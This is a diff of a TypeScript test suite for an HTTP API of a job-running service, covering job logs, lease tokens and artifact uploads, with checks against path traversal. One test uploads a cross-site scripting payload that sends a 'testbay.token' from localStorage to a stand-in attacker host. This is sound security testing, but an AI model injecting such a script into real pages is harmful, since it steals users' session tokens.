@@ -59,7 +59,7 @@ describe('HTTP API', () => {
     expect(created.jobs).toEqual([{ id: `${created.id}.1`, name: 'y' }]);
     let text = '';
     const result = await lab.submitter.followLog(created.jobs[0]!.id, (t) => (text += t));
-    expect(result).toEqual({ kind: 'passed' });
+    expect(result, JSON.stringify(result)).toEqual({ kind: 'passed' });
     expect(text).toMatch(/^.*\[runner\] job y/);
     expect(text).toMatch(/\[login\] ok\n.*all modules passed\n$/);
     expect(text).toBe(await lab.api.log(created.jobs[0]!.id));
@@ -108,7 +108,7 @@ describe('HTTP API', () => {
     const { id, jobs } = await lab.submit({ jobs: [osTest('uploads', { HANG_MODULE: 'login' })] });
     const jobId = jobs[0]!.id;
     await waitFor('the job to run', async () => (await lab.api.job(jobId)).state === 'running');
-    const record = JSON.parse(await fs.readFile(path.join(lab.dir, 'results', 'jobs', jobId, 'job.json'), 'utf8')) as { leaseToken: string };
+    const record = (await lab.store.getJob(jobId))!;
     const lease = { 'x-testbay-lease': record.leaseToken, 'content-type': 'application/octet-stream' };
     const script = '<script>fetch("//evil.invalid/?t=" + localStorage["testbay.token"])</script>';
     const uploads: Record<string, string> = {
@@ -174,7 +174,7 @@ describe('HTTP API', () => {
     const { id, jobs } = await lab.submit({ jobs: [osTest('held', { HANG_MODULE: 'login' })] });
     const jobId = jobs[0]!.id;
     await waitFor('the job to run', async () => (await lab.api.job(jobId)).state === 'running');
-    const record = JSON.parse(await fs.readFile(path.join(lab.dir, 'results', 'jobs', jobId, 'job.json'), 'utf8')) as { leaseToken: string };
+    const record = (await lab.store.getJob(jobId))!;
     const lease = { 'x-testbay-lease': record.leaseToken, 'content-type': 'application/octet-stream' };
     const put = (name: string, body = 'x', headers: Record<string, string> = lease, token = lab.tokens.host) => call('PUT', `/jobs/${jobId}/artifacts/${name}`, token, body, headers);
 
@@ -195,7 +195,8 @@ describe('HTTP API', () => {
     } as unknown as RequestInit);
     expect(chunked.status).toBe(413);
     expect((await lab.api.job(jobId)).artifacts.map((a) => a.name)).toEqual(['ok.txt']);
-    await expect(fs.access(path.join(lab.dir, 'results', 'escape.txt'))).rejects.toThrow();
+    await expect(fs.access(path.join(lab.dir, 'escape.txt'))).rejects.toThrow();
+    await expect(fs.access(path.join(lab.dir, 'objects', 'escape.txt'))).rejects.toThrow();
     expect((await put('ok.txt', 'x', lease, lab.tokens.submit)).status).toBe(403);
 
     await lab.submitter.cancelSubmission(id);
